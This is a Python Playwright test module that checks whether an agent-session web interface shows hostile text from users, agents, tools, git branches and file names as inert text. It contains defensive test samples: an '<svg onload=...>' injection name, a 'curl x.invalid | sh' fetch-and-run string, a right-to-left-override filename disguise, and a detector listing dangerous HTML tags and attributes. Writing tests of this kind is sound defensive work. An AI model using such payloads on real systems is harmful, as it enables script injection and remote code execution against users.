"""Whatever agents, git and files call things or say: it is text, and nothing of it ever acts."""

import re
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, expect

from model.backends import base
from model.base.text import make_visible
from model.domain.resources import Question, QuestionOption, Usage
from tests.contract.conftest import program_in
from tests.page.conftest import OpenPage, made_worktree
from tests.page.hostile import ALL, HIDING, NAMES
from tests.page.stage import Stage
from tests.puppet import Puppet
from tests.server.conftest import Socket

DONE = base.TurnFinished("end_turn", Usage())

RAN = "() => { window.ran = () => console.error('foreign text ran'); }"

ACTING = """() => {
  const found = [];
  const forbidden = new Set(
    `script style iframe frame frameset object embed applet portal fencedframe base meta link svg
     math video audio source track image picture template marquee noscript xmp plaintext`
      .split(/\\s+/));
  const loading = new Set(
    `srcset srcdoc formaction action data background poster ping xlink:href http-equiv`.split(" "));
  const own = (name) => name.startsWith("--") || ["height", "width", "transform"].includes(name);
  for (const element of document.body.querySelectorAll("*")) {
    if (forbidden.has(element.localName) && !element.matches("body > noscript")) {
      found.push(element.outerHTML);
    }
    for (const { name, value } of element.attributes) {
      const isForeign = element.closest(".message, .request") !== null;
      if (name.startsWith("on") || loading.has(name)) found.push(element.outerHTML);
      if (name === "src" && (isForeign || !/^(\\/|data:image|blob:)/.test(value))) {
        found.push(element.outerHTML);
      }
      if (name === "href" && !/^(#|https?:|mailto:|\\/lite$)/i.test(value)) {
        found.push(element.outerHTML);
      }
      if (name === "style" && (isForeign || ![...element.style].every(own))) {
        found.push(element.outerHTML);
      }
    }
    if (element.localName === "a" && element.hostname && element.target === "_blank") {
      const { rel } = element;
      if (!rel.includes("noopener") || !rel.includes("noreferrer")) found.push(element.outerHTML);
    }
  }
  const ids = [...document.querySelectorAll("[id]")].map((element) => element.id);
  if (new Set(ids).size !== ids.length) found.push("an id stands twice");
  return found;
}"""


@pytest.fixture
def served(stage: Stage) -> Stage:
    """What the pages of this module are of."""
    return stage


async def open_session(open_page: OpenPage, session: Any) -> Page:
    page = await open_page(f"/session/{session['id']}")
    await page.evaluate(RAN)
    await expect(page.get_by_role("log", name="Conversation")).to_be_visible()
    return page


async def begin(stage: Stage, other: Socket, session: Any, message: str = "go") -> Puppet:
    """The session's agent, with a turn begun."""
    await other.call("send_chat_message", sessionId=session["id"], message=message)
    puppet = await stage.backend.newest()
    await puppet.hears("send")
    return puppet


async def finished(page: Page, answers: int = 1) -> None:
    """Wait until this many answers are there and complete."""
    await expect(page.locator('.message[data-role="assistant"]')).to_have_count(answers)
    await expect(page.locator(".pulse")).to_have_count(0)


async def assert_nothing_acts(page: Page) -> None:
    """Look at all that is drawn; and press, point at and focus what hands can reach."""
    assert await page.evaluate(ACTING) == []
    await page.evaluate(
        """() => {
          for (const fold of document.querySelectorAll("details")) fold.open = true;
          for (const element of document.querySelectorAll(".message *, .request *")) {
            for (const kind of ["pointerenter", "mouseover", "focus", "blur", "animationstart"]) {
              element.dispatchEvent(new Event(kind, { bubbles: true }));
            }
          }
        }"""
    )
    await page.evaluate(
        "() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))"
    )
    assert await page.evaluate(ACTING) == []


def test_there_are_enough_of_them() -> None:
    assert len(set(ALL)) >= 200


async def test_what_a_person_sent_is_shown_to_the_letter(
    stage: Stage, other: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    text = "\n".join(ALL)
    puppet = await begin(stage, other, session, text)
    puppet.say(DONE)
    said = page.locator('.message[data-role="user"] .verbatim')
    kept = (await other.call("get_messages", sessionId=session["id"]))["messages"][0]
    await finished(page)
    assert await said.evaluate("(element) => element.textContent") == kept["content"][0]["text"]
    await assert_nothing_acts(page)


@pytest.mark.parametrize("way", ["whole", "letter by letter"])
async def test_what_an_agent_says_and_thinks_is_text(
    stage: Stage, other: Socket, open_page: OpenPage, session: Any, way: str
) -> None:
    page = await open_session(open_page, session)
    puppet = await begin(stage, other, session)
    for number, payload in enumerate(ALL):
        pieces: Sequence[str] = (payload,) if way == "whole" else tuple(payload)
        puppet.say(*(base.TextDelta(f"said {number}", piece) for piece in pieces))
        if way == "whole":
            puppet.say(base.TextDelta(f"thought {number}", payload, "thinking"))
    puppet.say(DONE)
    await finished(page)
    await expect(page.locator(".prose")).to_have_count(len(ALL))
    await assert_nothing_acts(page)
    links = await page.locator(".prose a").evaluate_all("(all) => all.map((a) => a.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}
    assert len(links) >= 5
    # Mostly the payloads stand there as they were written; the rest are Markdown's own signs.
    texts = await page.locator(".prose").evaluate_all("(all) => all.map((one) => one.textContent)")
    literal = [text == payload for text, payload in zip(texts, ALL, strict=True)]
    assert literal.count(True) > 130


async def test_what_tools_take_and_give_is_text(
    stage: Stage, other: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    puppet = await begin(stage, other, session)
    for number, payload in enumerate(ALL):
        tool, below = f"tool {number}", f"below {number}"
        given = {"file_path": payload, payload: payload}
        puppet.say(base.ToolUse(tool, payload, given))
        puppet.say(base.ToolUse(below, payload, {"command": payload}, tool))
        puppet.say(base.ToolResult(below, payload), base.ToolResult(tool, payload, number % 2 == 0))
        edit = {
            "file_path": payload,
            "old_content": payload,
            "new_content": f"{payload}\n{payload}",
        }
        puppet.say(base.ToolUse(f"edit {number}", "edit", edit))
    puppet.say(*(base.Notice(payload) for payload in ALL))
    puppet.say(base.TurnFailed("\n".join(ALL), "backend_error"))
    await finished(page)
    await assert_nothing_acts(page)
    assert await page.locator("details.tool").count() >= 2 * len(ALL)
    shown = await page.locator("details.tool .output").all_text_contents()
    assert set(shown) == set(ALL)


async def test_what_is_asked_is_text(
    stage: Stage, other: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    needs = await open_page("/needs")
    await needs.evaluate(RAN)
    puppet = await begin(stage, other, session)
    options = [QuestionOption(label=payload, description=payload) for payload in ALL]
    questions = (Question(question=ALL[0], header=ALL[1], options=options),)
    puppet.say(base.QuestionAsked("asked", questions))
    for at in (page, needs):
        await expect(at.locator(".request fieldset button")).to_have_count(len(ALL))
        await assert_nothing_acts(at)
    labels = await page.locator(".request fieldset button b").all_text_contents()
    assert labels == list(ALL)
    answer = {"sessionId": session["id"], "answer": {ALL[0]: ALL[2]}}
    await other.call("answer_question", **answer)
    await puppet.hears("answer")
    puppet.say(base.PermissionRequested("may", ALL[3], {"command": "\n".join(ALL)}, "\n".join(ALL)))
    for at in (page, needs):
        await expect(at.locator(".request h3")).to_contain_text(ALL[3])
        assert await at.locator(".request pre").text_content() == "\n".join(ALL)
        hints = at.locator(".request .hint")
        await expect(hints.first).to_contain_text(re.compile(r"^In /.+, in \w+ mode$"))
        await expect(hints.last).to_contain_text("For this session: exactly this command, in")
        await assert_nothing_acts(at)
    asking = (await other.call("get_session", sessionId=session["id"]))["request"]
    denied = {"requestId": asking["id"], "decision": "deny", "reason": ALL[4]}
    await other.call("answer_permission", sessionId=session["id"], **denied)
    await puppet.hears("permit")
    puppet.say(base.PlanProposed("plan", "\n\n".join(ALL)))
    for at in (page, needs):
        await expect(at.get_by_role("heading", name="Approve this plan?")).to_be_visible()
        await assert_nothing_acts(at)


async def test_what_hides_is_seen_in_every_place(
    stage: Stage, other: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    puppet = await begin(stage, other, session, "\n".join(HIDING))
    for number, hiding in enumerate(HIDING):
        tool = f"tool {number}"
        puppet.say(base.TextDelta(f"said {number}", hiding))
        puppet.say(base.TextDelta(f"thought {number}", hiding, "thinking"))
        puppet.say(base.ToolUse(tool, hiding, {"command": hiding}), base.ToolResult(tool, hiding))
    asked = base.PermissionRequested("may", HIDING[1], {"command": "\n".join(HIDING)}, HIDING[2])
    puppet.say(asked)
    shown = page.locator(".request pre")
    await expect(shown).to_contain_text("ls ␛]0;")
    assert await shown.text_content() == make_visible("\n".join(HIDING))
    text = await page.locator("body").evaluate("(body) => body.textContent")
    assert "curl x.invalid | sh #␇" in text
    assert "safe<U+202E>gnp.exe<U+202C>" in text
    assert make_visible(text) == text
    await other.call("answer_permission", sessionId=session["id"], requestId="may", decision="deny")
    puppet.say(base.PlanProposed("plan", "\n\n".join(HIDING)))
    await expect(page.get_by_role("heading", name="Approve this plan?")).to_be_visible()
    text = await page.locator("body").evaluate("(body) => body.textContent")
    assert make_visible(text) == text


async def test_names_of_sessions_are_text_wherever_they_stand(
    stage: Stage, other: Socket, open_page: OpenPage, session: Any, worktree: Any
) -> None:
    page = await open_session(open_page, session)
    title = await page.title()
    names = []
    for payload in ALL[::3]:
        name = " ".join(payload.split())[:100]
        made = await other.call("create_session", worktreeId=worktree["id"], name=name)
        names.append(made["name"])
        await other.call("update_session", sessionId=session["id"], name=name)
        await expect(page.locator("#title")).to_have_text(made["name"])
    await expect(page).to_have_title(title.replace("Fix the parser", names[-1]))
    await page.set_viewport_size({"width": 1280, "height": 6000})  # rows out of sight are not drawn
    rows = page.locator('#tree .row[data-kind="session"] .name')
    await expect(rows).to_have_count(len(names) + 1)
    assert sorted(await rows.all_text_contents()) == sorted([*names, names[-1]])
    await assert_nothing_acts(page)


async def test_names_of_projects_branches_and_files_are_text(
    other: Socket, open_page: OpenPage, tmp_path: Path
) -> None:
    strange = program_in(tmp_path / "strange")
    root = strange.made_repository("<svg onload=ran()>")
    for name in NAMES:
        git = ["git", "branch", f"of-{name}"]
        subprocess.run(git, cwd=root, env=strange.environ, check=True)
    project = await other.call("add_project", path=str(root))
    worktree = await made_worktree(other, projectId=project["id"])
    for name in NAMES:
        (Path(worktree["path"]) / name.replace("/", "-")).write_text("\n".join(ALL))
    page = await open_page(f"/project/{project['id']}")
    await page.evaluate(RAN)
    await expect(page.locator('#tree .row[data-kind="project"]')).to_contain_text("<svg onload")
    await assert_nothing_acts(page)
    await page.goto(f"/#/diff/{worktree['id']}")
    await expect(page.locator("#content")).to_contain_text(NAMES[0])
    await assert_nothing_acts(page)
    await page.goto(f"/#/new?project={project['id']}")
    await expect(page.locator("#content")).to_contain_text(f"of-{NAMES[0]}")
    await assert_nothing_acts(page)
